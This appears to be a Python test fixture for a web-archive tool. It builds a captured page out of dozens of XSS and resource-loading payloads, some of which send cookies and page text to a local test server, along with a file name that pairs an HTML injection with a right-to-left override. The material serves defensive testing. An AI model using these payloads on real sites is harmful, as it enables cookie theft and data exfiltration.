"""Captured pages for the tests of evidence: in the archive and in the register, one of them made of attacks."""

from __future__ import annotations

import struct
import zlib
from datetime import UTC, datetime
from pathlib import Path

from onrecord.capture.model import Exchange, Fetched, Saved, View, Views
from onrecord.capture.store.archive import Archive
from onrecord.register.db.scope import Scope

HOSTILE_NAME = '"><img src=x onerror=alert(7)>\u202egpj.exe'
_AT = datetime(2026, 5, 1, 8, 30, tzinfo=UTC)


def png(width: int = 320, height: int = 480) -> bytes:
    """A small picture of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    lines = b"".join(b"\x00" + b"\xee\xee\xe8" * width for _ in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(lines)) + chunk(b"IEND", b"")


def attacks(port: int) -> dict[str, str]:
    """Ways in which a page could reach another address, run a script or read what is not its own, by name."""
    to = f"http://127.0.0.1:{port}"
    read = f"new Image().src='{to}/told?'+document.cookie+top.document.body.innerText"
    return {
        "script": f"<script>{read}</script>",
        "script of another host": f"<script src={to}/s.js></script>",
        "module": f"<script type=module>import '{to}/m.js'</script>",
        "image": f"<img src={to}/i srcset='{to}/i2 2x' loading=eager>",
        "handler": f'<img src=x onerror="{read}"><body onload="{read}">',
        "style sheet": f"<link rel=stylesheet href={to}/c.css><style>@import '{to}/i.css'; *{{background:url({to}/b)}}</style>",
        "style": f'<p style="background:url({to}/bg);position:fixed;inset:0">over everything</p>',
        "prefetch": f"<link rel=prefetch href={to}/p><link rel=preload as=image href={to}/pl><link rel=modulepreload href={to}/mp>",
        "preconnect": f"<link rel=preconnect href={to}><link rel=dns-prefetch href={to}>",
        "refresh": f"<meta http-equiv=refresh content='0;url={to}/r'>",
        "base": f"<base href={to}/base/ target=_top>",
        "frame": f"<iframe src={to}/f></iframe><frameset><frame src={to}/fr></frameset>",
        "frame with a document": f'<iframe srcdoc="<script>{read}</script><img src={to}/sd>"></iframe>',
        "object": f"<object data={to}/o></object><embed src={to}/e><applet code={to}/a></applet>",
        "media": f"<video src={to}/v poster={to}/po autoplay></video><audio src={to}/au autoplay></audio><track src={to}/t>",
        "picture": f"<picture><source srcset={to}/ps><img src={to}/pi></picture>",
        "drawing": f"<svg onload=\"{read}\"><image href={to}/si /><use href={to}/su#a /><a xlink:href='javascript:{read}'>"
        "<text>x</text></a><foreignObject><script>x</script></foreignObject></svg>",
        "formula": f"<math href={to}/ma><maction actiontype=statusline xlink:href={to}/mx>m</maction></math>",
        "form": f'<form action={to}/fo method=post><input name=a value=b autofocus onfocus="{read}"><button formaction={to}/fb>'
        "Sign in again</button><input type=image src={to}/ii></form>",
        "link": f"<a href={to}/l ping={to}/ping target=_top>click here</a><a href='javascript:{read}'>or here</a>"
        f"<area href={to}/ar>",
        "speculation": f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{to}/sp"]}}]}}</script>',
        "worker": f"<script>navigator.sendBeacon('{to}/b');new WebSocket('ws://127.0.0.1:{port}/w');fetch('{to}/f')</script>",
        "peer connection": f"<script>new RTCPeerConnection({{iceServers:[{{urls:'turn:127.0.0.1:{port}?transport=tcp',username:'u',"
        "credential:'c'}]}).createDataChannel('x')</script>",
        "parser": f'<noscript><p title="</noscript><img src={to}/ns onerror=alert(1)>"></noscript><xmp><img src={to}/xm></xmp>'
        f"<textarea><img src={to}/ta></textarea><title><img src={to}/ti></title><!--><img src={to}/co>-->",
        "template": f"<template shadowrootmode=open><img src={to}/te></template><slot><img src={to}/sl></slot>",
        "table": f"<table background={to}/tb><tr><td background={to}/td>cell</td></tr></table>",
        "manifest": f"<link rel=manifest href={to}/mf><link rel=icon href={to}/ic>",
    }


def hostile_capture(port: int) -> Fetched:
    """A page made of attacks, with an appeal in it, as a fetch would give it."""
    body = (
        '<!doctype html><html lang=en><head><title>"><script>alert(1)</script>Prisoners of the tower write</title></head>'
        "<body><article><h1>&lt;img src=x onerror=alert(4)&gt; Prisoners of the tower write</h1>"
        "<p class=byline>By &lt;svg onload=alert(5)&gt; Ann</p><p>4 May 2018. In a letter to UN Secretary-General António"
        " Guterres, prisoners of the tower ask for a visit.</p><p dir=rtl lang=fa style='color:red'>نامه‌ای از برج</p>"
        + "".join(attacks(port).values())
        + "<p>The end of the page.</p></article></body></html>"
    ).encode()
    url = f"http://127.0.0.1:{port}/a?q=%22%3E%3Cscript%3E"
    exchange = Exchange(
        url=url,
        request=b"GET /a HTTP/1.1\r\nHost: tower.example\r\n\r\n",
        response=b'HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8; x="><script>\r\nSet-Cookie: a=b\r\n\r\n',
        body=body,
        status=200,
        at=_AT,
        peer="127.0.0.1:80",
    )
    views = Views(
        views=(View("image", "image/png", png()),),
        at=_AT,
        browser="Chromium 156",
        width=320,
        height=480,
        page_height=480,
        scale=1.0,
        whole=True,
        refused=3,
        instead=0,
    )
    return Fetched(requested=url, final=url, exchanges=(exchange,), notes=("A note with <b>signs</b>.",), views=views)


def keep_captures(folder: Path, scope: Scope, port: int) -> None:
    """Keep two pages in an archive and enter them."""
    from onrecord.register.ingest.pipeline import IngestPipeline
    from onrecord.register.ingest.suggestions import suggest

    archive = Archive(folder)

    def keep(taken):
        return archive.keep(taken, collector=f"collector {HOSTILE_NAME}", reason=f"a reason {HOSTILE_NAME}")

    pipeline = IngestPipeline(archive=archive, scope=scope, keep=keep, propose=suggest)
    pipeline.add(hostile_capture(port))
    body = f"<html><body><h1>A saved page</h1><p>{'It is about the tower and its prisoners. ' * 9}</p></body></html>"
    pipeline.add(Saved(HOSTILE_NAME, None, body.encode(), "text/html"))
